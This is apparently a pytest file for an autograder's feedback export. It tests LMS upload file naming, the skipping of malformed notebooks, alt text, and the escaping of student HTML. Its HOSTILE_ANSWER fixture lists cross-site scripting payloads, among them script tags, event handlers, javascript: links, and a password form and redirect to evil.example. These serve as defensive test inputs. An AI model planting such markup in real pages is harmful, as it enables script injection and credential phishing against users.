"""Feedback back to the LMS in one upload (grader/feedback.py, feedback_zip): each graded student's
page, named as Canvas's "Re-Upload Submissions" (the user id and the id of a file of their
submission, the first two all-digit parts of the name: canvas-lms
Assignment#infer_comment_context_from_filename) and Moodle's "Upload multiple feedback files in a
zip" (<name>_<participant id>_<plugin type>_<plugin name>_...: importziplib.php) match them."""
import dataclasses
import zipfile

import pytest

from grader import pipeline
from grader.feedback import FeedbackError, feedback_zip, generate_feedback
from grader.store import save_outcomes
from support.grading import A1, grade_without_kernel, open_batch, submission_file
from support.pages import WRITTEN_ANSWER, live_markup


@pytest.fixture(scope="module")
def returned(course, tmp_path_factory):
    """Two Canvas students (one anonymous), one Moodle participant and one from a plain folder,
    graded without kernels, their feedback pages written."""
    tmp = tmp_path_factory.mktemp("feedback")
    with open_batch(course, tmp) as batch:
        batch.prepare()
        template = grade_without_kernel(submission_file(course, tmp, "template"), batch)
        students = [
            dataclasses.replace(template, student="jdoe", login="101", preset="canvas",
                                lms_name=f"doejane_LATE_101_5001_{A1}-1.ipynb"),
            dataclasses.replace(template, student="anon_acJ4Q", login="anon_acJ4Q", preset="canvas",
                                lms_name=f"anon_acJ4Q_5003_{A1}.ipynb"),
            dataclasses.replace(template, student="jsmith", login="4712", preset="moodle",
                                lms_name="John Smith_4712_assignsubmission_file_"),
            dataclasses.replace(template, student="bkim", login="bkim", preset="folder", lms_name="bkim.ipynb"),
        ]
        graded = [pipeline.record(s, batch) for s in students]
        save_outcomes(batch.course, A1, graded)
        generate_feedback(batch.course, A1)
        return batch.course, tmp


def test_canvas_names_carry_the_user_and_the_submitted_file(returned):
    course, tmp = returned
    path, count, notes = feedback_zip(course, A1, "canvas", tmp / "canvas.zip")
    assert zipfile.ZipFile(path).namelist() == [f"doejane_101_5001_{A1}-feedback.html"]
    assert count == 1
    [note] = notes
    assert "anon_acJ4Q (the download's name" in note and "jsmith (not from a canvas download)" in note
    page = zipfile.ZipFile(path).read(f"doejane_101_5001_{A1}-feedback.html").decode()
    assert "BEGIN HIDDEN TESTS" not in page and A1 in page


def test_moodle_names_carry_the_participant(returned):
    course, tmp = returned
    path, count, _ = feedback_zip(course, A1, "moodle", tmp / "moodle.zip")
    [name] = zipfile.ZipFile(path).namelist()
    assert name == f"John Smith_4712_assignsubmission_file_{A1}-feedback.html"
    assert name.split("_", 4)[1:4] == ["4712", "assignsubmission", "file"], "Moodle's explode('_', name, 5)"


def test_nothing_to_return_says_what_to_run(course, tmp_path):
    with pytest.raises(FileNotFoundError, match="run autograde first"):
        feedback_zip(course.with_grading_dir(tmp_path), A1, "canvas", tmp_path / "x.zip")
    with pytest.raises(FeedbackError, match="choose one of canvas, moodle"):
        feedback_zip(course.with_grading_dir(tmp_path), A1, "blackboard", tmp_path / "x.zip")


# ---- what a student wrote is shown, never run; a notebook feedback cannot read fails only its student ----

HOSTILE_ANSWER = WRITTEN_ANSWER + """
<script>document.title = "owned by a script"</script>
<img src="x" onerror="document.title = 'owned by onerror'">
<iframe src="https://evil.example/"></iframe>
<a href="javascript:document.title = 'owned by a link'">click</a>
<a href=" JaVaScRiPt:alert(1)">click again</a>
<svg onload="alert(1)"><circle r="4"/></svg>
<div onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>
<form action="https://evil.example/"><input name="password"></form>
<style>body { display: none }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<object data="https://evil.example/x.swf"></object>
"""


@pytest.fixture(scope="module")
def hostile_feedback(course, tmp_path_factory):
    """alice answered in hostile markup (and added a Markdown cell of her own); mallory's answer
    cell holds the hidden-test marker twice; bob is ordinary. All three came from a Canvas download."""
    import nbformat

    from grader import cells
    tmp = tmp_path_factory.mktemp("hostile-feedback")
    with open_batch(course, tmp) as batch:
        batch.prepare()
        graded = []
        for student, login, change in (("alice", "201", "markup"), ("mallory", "202", "markers"), ("bob", "203", "")):
            submission = submission_file(course, tmp, student)
            nb = nbformat.read(str(submission.path), as_version=4)
            for cell in nb.cells:
                if change == "markup" and cells.grade_id(cell) == "written_permutation":
                    cell.source = HOSTILE_ANSWER
                if change == "markers" and cells.grade_id(cell) == "sdpa_solution":
                    cell.source += "\n# ### BEGIN HIDDEN TESTS\n# ### BEGIN HIDDEN TESTS\n"
            if change == "markup":
                nb.cells.append(nbformat.v4.new_markdown_cell("<script>document.title = 'my own cell'</script>"))
            nbformat.write(nb, str(submission.path))
            submission = grade_without_kernel(submission, batch)
            graded.append(pipeline.record(dataclasses.replace(
                submission, login=login, preset="canvas", lms_name=f"{student}_{login}_50{login}_{A1}.ipynb"), batch))
        save_outcomes(batch.course, A1, graded)
        skipped = []
        pages = generate_feedback(batch.course, A1, skipped)
        return batch.course, tmp, {p.parts[-3]: p for p in pages}, skipped


def test_hostile_markup_in_a_written_answer_is_shown_not_run(hostile_feedback):
    _, _, pages, _ = hostile_feedback
    page = pages["alice"].read_text()
    assert not live_markup(page), live_markup(page)
    assert "&lt;script&gt;document.title = \"owned by a script\"&lt;/script&gt;" in page, "shown as text"
    assert "&lt;script&gt;document.title = 'my own cell'&lt;/script&gt;" in page, "a cell the student added too"
    # ordinary markdown still renders
    for markup in ("<strong>every</strong>", "<em>set</em>", "<code>weights.sum(-1)</code>",
                   '<a href="https://arxiv.org/abs/1706.03762">the paper</a>',
                   '<th style="text-align:left;">order</th>', '<h3 id="Why-the-permutation-does-not-matter">'):
        assert markup in page, markup


def test_a_clean_page_is_unchanged_by_the_cleaning(hostile_feedback):
    _, _, pages, _ = hostile_feedback
    page = pages["bob"].read_text()
    assert not live_markup(page)
    shown_as_text = [tag for tag in ("p", "h1", "h2", "h3", "ul", "ol", "li", "table", "em", "strong", "code", "a ",
                                     "img", "div", "span", "br", "details") if f"&lt;{tag}" in page]
    assert not shown_as_text, f"the release's own Markdown shows these tags as text: {shown_as_text}"


def test_a_notebook_feedback_cannot_read_is_named_and_everyone_else_gets_a_page(hostile_feedback):
    course, tmp, pages, skipped = hostile_feedback
    assert sorted(pages) == ["alice", "bob"]
    assert skipped == ["feedback not written for mallory: a cell of their notebook holds the hidden-test marker "
                       "'BEGIN HIDDEN TESTS' twice (nbgrader: Encountered nested begin hidden tests statements)"]
    path, count, _ = feedback_zip(course, A1, "canvas", tmp / "canvas.zip")
    assert count == 2 and sorted(zipfile.ZipFile(path).namelist()) == [f"alice_201_50201_{A1}-feedback.html",
                                                                      f"bob_203_50203_{A1}-feedback.html"]


def test_outputs_are_made_inert():
    import nbformat

    from grader.feedback_html import inert_outputs
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("display(...)")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": "<b>ok</b><img src=x onerror=alert(1)>"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg onload='alert(1)'/>", "text/plain": "fig"}),
    ]
    nb.cells.append(cell)
    html, js, svg = inert_outputs(nb).cells[0].outputs
    assert html.data["text/html"] == '<b>ok</b><img src="x" alt="No description has been provided for this image">'
    assert js.data == {"text/plain": "(an output of type application/javascript is not shown here)"}
    assert svg.data["text/html"].startswith('<img alt="A figure drawn by the code cell above; the notebook gives no '
                                            'text description of it." src="data:image/svg+xml;base64,')
    assert "image/svg+xml" not in svg.data
    assert cell.outputs[1].data == {"application/javascript": "alert(1)"}, "the notebook itself is not changed"


def _exporter():
    """A FeedbackExporter configured as GenerateFeedback configures it (nbgrader's feedback template)."""
    from pathlib import Path

    import nbgrader
    from traitlets.config import Config

    from grader.feedback_html import FeedbackExporter
    formgrader = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
    config = Config()
    config.HTMLExporter.template_name = "feedback"
    config.HTMLExporter.extra_template_basedirs = [str(formgrader / "templates")]
    bootstrap_css = formgrader / "static" / "node_modules" / "bootstrap" / "dist" / "css"
    config.HTMLExporter.extra_template_paths = [str(bootstrap_css)]
    return FeedbackExporter(config=config)


def _page(nb, exporter=None, render=None):
    """`nb`'s feedback page as `exporter` (default: a new _exporter()) writes it, with `render` (default:
    its from_notebook_node)."""
    exporter = exporter or _exporter()
    render = render or exporter.from_notebook_node
    page, _ = render(nb, resources={"nbgrader": {"notebook": "a1", "score": 1.0, "max_score": 2.0, "late_penalty": 0}})
    return page


def _rendered_images(nb):
    """The attributes of every <img> on `nb`'s feedback page, rendered as GenerateFeedback renders it
    (nbgrader's feedback template, FeedbackExporter)."""
    from html.parser import HTMLParser

    page = _page(nb)
    images = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attrs: images.append(dict(attrs)) if tag == "img" else None
    parser.feed(page)
    return images


def test_a_figure_gets_the_text_of_its_figure_cell_as_alt():
    import base64

    import nbformat
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n not really an image").decode()
    nb = nbformat.v4.new_notebook()
    described, bare = (nbformat.v4.new_code_cell("plt.plot(x); plt.show()") for _ in range(2))
    for cell in (described, bare):
        cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": png, "text/plain": "<Figure>"})]
    nb.cells = [described,
                nbformat.v4.new_markdown_cell('Figure: the loss against the `step`, falling from $2.5$ to "0.5".'),
                bare, nbformat.v4.new_markdown_cell("## What the loss shows")]
    images = _rendered_images(nb)
    assert len(images) == 2, images
    assert images[0].get("alt") == 'Figure: the loss against the step, falling from 2.5 to "0.5".', images[0]
    assert images[1].get("alt") == ("A figure drawn by the code cell above; the notebook gives no text "
                                    "description of it.")
    assert "alt" not in described.outputs[0].metadata.get("image/png", {}), "the notebook itself is not changed"


def test_an_alt_the_output_carries_is_kept():
    import nbformat

    from grader.feedback_html import inert_outputs
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("display(Image(...))")
    cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": "iVBORw0KGgo="},
                                           metadata={"image/png": {"alt": "the student's own words"}})]
    nb.cells = [cell, nbformat.v4.new_markdown_cell("Figure: what the course says.")]
    assert inert_outputs(nb).cells[0].outputs[0].metadata["image/png"]["alt"] == "the student's own words"


def _notebook_with_images():
    """A notebook with an image of every kind a page can show: Markdown images with and without an alt, raw
    <img> in Markdown and in a raw cell, outputs' PNG, SVG, HTML and Markdown images, and a student's markup
    borrowing the lab template's class names."""
    import base64

    import nbformat
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n not really an image").decode()
    nb = nbformat.v4.new_notebook()
    nb.metadata["language_info"] = {"name": "python", "pygments_lexer": "ipython3"}
    code = nbformat.v4.new_code_cell("import matplotlib.pyplot as plt\nplt.plot([1, 2]); plt.show()  # draw")
    code.outputs = [
        nbformat.v4.new_output("display_data", data={"image/png": png, "text/plain": "<Figure>"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg/>", "text/plain": "svg"}),
        nbformat.v4.new_output("display_data", data={"text/html": "<p>a table</p><img src=z.png>"}),
        nbformat.v4.new_output("display_data", data={"text/markdown": "<img src='w.png'> and ![chart](v.png)"}),
        nbformat.v4.new_output("stream", name="stdout", text="<img src=not-an-image> printed, shown as text\n"),
    ]
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Title\n\n![](empty-alt.png) ![a plot](own-alt.png) <img src='bare.png'>"),
        code,
        nbformat.v4.new_markdown_cell("Figure: two points joined by a line."),
        nbformat.v4.new_raw_cell("<img src='raw.png'>", metadata={"raw_mimetype": "text/html"}),
    ]
    return nb


def test_a_page_is_nbconverts_without_parsing_it_again():
    """nbconvert's HTMLExporter parses each page it wrote (BeautifulSoup) to add an alt to any <img> without
    one and tabindex="0" to the lab template's input and output divs, and writes it out again; the feedback
    page skips that: here, that pass finds nothing to add, and every <img> has an alt."""
    from bs4 import BeautifulSoup
    from nbconvert.exporters import HTMLExporter

    from grader.feedback_html import NO_ALT, inert_outputs
    nb = _notebook_with_images()
    exporter = _exporter()
    page = _page(nb, exporter)
    nbconverts = _page(inert_outputs(nb), exporter, render=lambda *a, **kw: HTMLExporter.from_notebook_node(
        exporter, *a, **kw))
    soup = BeautifulSoup(page, "html.parser")
    assert str(soup) == nbconverts, "nbconvert's pass over the page changed something"
    alts = {image["src"].split(";")[0]: image.get("alt") for image in soup.find_all("img")}
    assert alts == {"empty-alt.png": "", "own-alt.png": "a plot", "bare.png": NO_ALT,
                    "data:image/png": "Figure: two points joined by a line.",
                    "data:image/svg+xml": "Figure: two points joined by a line.",
                    "z.png": NO_ALT, "w.png": NO_ALT, "v.png": "chart"}, alts
    assert "&lt;img src=not-an-image&gt;" in page, "printed markup is shown as text"
    assert not soup.select(".jp-Cell-inputWrapper, .jp-OutputArea-output"), \
        "the feedback template writes lab template divs, which nbconvert makes focusable: give them tabindex=0"


def test_a_students_markup_makes_nothing_focusable():
    """nbconvert's pass gave tabindex="0" to any div of a page with the lab template's classes, a student's own
    too; the feedback page leaves a student's markup as it was cleaned."""
    import nbformat
    from bs4 import BeautifulSoup

    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(
        '<div class="jp-Notebook"><div class="jp-Cell-inputWrapper">mine</div><div class="jp-OutputArea-output">'
        '</div></div>')]
    soup = BeautifulSoup(_page(nb), "html.parser")
    assert len(soup.select(".jp-Notebook div")) == 2
    assert not soup.select("[tabindex='0']")


def test_one_exporter_writes_each_page_as_a_new_one_would():
    """The pages of a run share the highlighted code and rendered Markdown of cells with the same text: a
    student's page is what a new exporter writes for them alone, whoever came before."""
    import copy

    first = _notebook_with_images()
    second = copy.deepcopy(first)
    second.cells[0].source = "# Title\n\nmy **own** words"
    second.cells[1].source = "import matplotlib.pyplot as plt\nplt.plot([2, 1]); plt.show()  # mine"
    third = copy.deepcopy(first)
    third.cells[1].metadata["magics_language"] = "bash"
    shared = _exporter()
    for nb in (first, second, first, third):
        assert _page(nb, shared) == _page(nb), nb.cells[1]
    assert "mine" in _page(second, shared) and "mine" not in _page(first, shared)
